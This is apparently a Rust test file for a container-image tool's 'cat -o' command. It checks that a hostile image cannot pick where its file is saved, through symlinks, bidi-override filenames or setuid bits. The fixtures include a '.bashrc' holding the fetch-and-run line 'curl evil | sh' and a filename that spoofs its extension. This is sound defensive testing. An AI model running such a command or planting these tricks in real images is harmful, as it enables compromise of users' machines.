//! `portolan-cli cat REF PATH -o DIR` as a user runs it against a real registry, with an
//! image that tries to choose where its file lands: `notes.txt` is a link to
//! `/root/.bashrc`, and other names carry bidi overrides and control characters. The copy
//! is named after the path asked for (cleaned), never after where a link led, and a file
//! already there is kept unless `--force`.

use std::io::Write;
use std::process::Output;

use portolan_tests::cli;
use portolan_tests::images::{sha256, Blob, Pusher, TestImage};
use portolan_tests::registry::{Auth, TestRegistry};
use serde_json::json;

/// A gzip layer of `files` (path, content) and `links` (path, target), and its diff ID.
fn layer(files: &[(&str, &[u8])], links: &[(&str, &str)]) -> (Blob, String) {
    let files: Vec<(&str, &[u8], u32)> = files.iter().map(|(p, d)| (*p, *d, 0o644)).collect();
    layer_with_modes(&files, links)
}

/// A gzip layer of `files` (path, content, mode) and `links`, and its diff ID.
fn layer_with_modes(files: &[(&str, &[u8], u32)], links: &[(&str, &str)]) -> (Blob, String) {
    let mut tar = tar::Builder::new(Vec::new());
    for (path, data, mode) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(*mode);
        header.set_cksum();
        tar.append_data(&mut header, path, *data).expect("tar file");
    }
    for (path, target) in links {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(tar::EntryType::Symlink);
        header.set_size(0);
        header.set_mode(0o777);
        tar.append_link(&mut header, path, target)
            .expect("tar link");
    }
    let tar = tar.into_inner().expect("tar");
    let diff_id = sha256(&tar);
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(&tar).expect("gzip");
    (
        Blob::new(
            "application/vnd.oci.image.layer.v1.tar+gzip",
            gz.finish().expect("gzip"),
        ),
        diff_id,
    )
}

fn image(layer: (Blob, String)) -> TestImage {
    let (blob, diff_id) = layer;
    let config = Blob::new(
        "application/vnd.oci.image.config.v1+json",
        serde_json::to_vec(&json!({
            "architecture": "amd64", "os": "linux",
            "rootfs": {"type": "layers", "diff_ids": [diff_id]},
        }))
        .expect("json"),
    );
    let manifest = Blob::new(
        "application/vnd.oci.image.manifest.v1+json",
        serde_json::to_vec(&json!({
            "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
            "config": config.descriptor(), "layers": [blob.descriptor()],
        }))
        .expect("json"),
    );
    TestImage {
        config,
        layers: vec![blob],
        manifest,
        layer_history: vec![],
        empty_steps: vec![],
    }
}

fn ok(o: &Output) -> String {
    assert!(
        o.status.success(),
        "portolan-cli failed: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout).into_owned()
}

/// The names in `dir`, sorted.
fn names(dir: &std::path::Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .expect("read dir")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    names
}

#[test]
fn a_saved_file_is_named_after_the_path_asked_for_and_never_replaces_one_unasked() {
    let registry = TestRegistry::start(Auth::None);
    let hostile = "srv/report\u{202E}txt.exe";
    let image = image(layer(
        &[
            ("root/.bashrc", b"curl evil | sh\n"),
            (hostile, b"not an exe"),
        ],
        &[("etc/notes.txt", "/root/.bashrc")],
    ));
    Pusher::new(&registry).push_image("evil/cat", "v1", &image);
    let reference = registry.reference("evil/cat:v1");
    let home = tempfile::tempdir().expect("home");
    let out = tempfile::tempdir().expect("out");
    let dir = out.path().display().to_string();
    let cat = |extra: &[&str]| cli::run(home.path(), &[&["cat", &reference][..], extra].concat());

    // The link is followed for the content, but the copy is named after the path asked for.
    let said = ok(&cat(&["etc/notes.txt", "-o", &dir]));
    assert!(said.contains("verified"), "{said}");
    assert_eq!(names(out.path()), ["notes.txt"], "no .bashrc written");
    assert_eq!(
        std::fs::read(out.path().join("notes.txt")).expect("saved"),
        b"curl evil | sh\n"
    );

    // A name that reorders text on screen is cleaned.
    ok(&cat(&[hostile, "-o", &dir]));
    assert_eq!(names(out.path()), ["notes.txt", "report_txt.exe"]);

    // Saved again: refused, said why, the file untouched; with --force, replaced.
    std::fs::write(out.path().join("notes.txt"), b"mine").expect("write");
    let refused = cat(&["etc/notes.txt", "-o", &dir]);
    assert!(!refused.status.success(), "an existing file is kept");
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains("notes.txt"), "{stderr}");
    assert!(stderr.contains("--force"), "{stderr}");
    assert_eq!(
        std::fs::read(out.path().join("notes.txt")).expect("kept"),
        b"mine"
    );
    let file = out.path().join("notes.txt").display().to_string();
    let refused = cat(&["root/.bashrc", "-o", &file]);
    assert!(
        !refused.status.success(),
        "a file named with -o is kept too"
    );
    assert_eq!(
        std::fs::read(out.path().join("notes.txt")).expect("kept"),
        b"mine"
    );
    ok(&cat(&["etc/notes.txt", "-o", &dir, "--force"]));
    assert_eq!(
        std::fs::read(out.path().join("notes.txt")).expect("replaced"),
        b"curl evil | sh\n"
    );
    assert_eq!(
        names(out.path()),
        ["notes.txt", "report_txt.exe"],
        "nothing else was written (no temporary file left)"
    );
}

/// What the umask of this process leaves of `mode` (a file created with it says).
fn within_umask(dir: &std::path::Path, mode: u32) -> u32 {
    use std::os::unix::fs::{OpenOptionsExt, PermissionsExt};
    let probe = dir.join("umask-probe");
    std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .mode(mode)
        .open(&probe)
        .expect("probe");
    let got = std::fs::metadata(&probe)
        .expect("probe")
        .permissions()
        .mode()
        & 0o7777;
    std::fs::remove_file(&probe).expect("remove probe");
    got
}

#[test]
fn a_saved_file_keeps_its_permission_bits_but_never_setuid() {
    use std::os::unix::fs::PermissionsExt;
    let registry = TestRegistry::start(Auth::None);
    let image = image(layer_with_modes(
        &[
            ("usr/bin/app", b"#!/bin/sh\necho hi\n", 0o755),
            ("usr/bin/su-ish", b"#!/bin/sh\n", 0o4755),
            ("etc/secret", b"s3cret", 0o600),
        ],
        &[],
    ));
    Pusher::new(&registry).push_image("modes/cat", "v1", &image);
    let reference = registry.reference("modes/cat:v1");
    let home = tempfile::tempdir().expect("home");
    let out = tempfile::tempdir().expect("out");
    let dir = out.path().display().to_string();
    let mode_of = |name: &str| {
        std::fs::metadata(out.path().join(name))
            .expect("saved")
            .permissions()
            .mode()
            & 0o7777
    };
    for path in ["usr/bin/app", "usr/bin/su-ish", "etc/secret"] {
        ok(&cli::run(
            home.path(),
            &["cat", &reference, path, "-o", &dir],
        ));
    }
    let scratch = tempfile::tempdir().expect("scratch");
    assert_eq!(
        mode_of("app"),
        within_umask(scratch.path(), 0o755),
        "still executable"
    );
    assert_eq!(
        mode_of("su-ish"),
        within_umask(scratch.path(), 0o755),
        "never setuid"
    );
    assert_eq!(mode_of("secret"), 0o600);
}
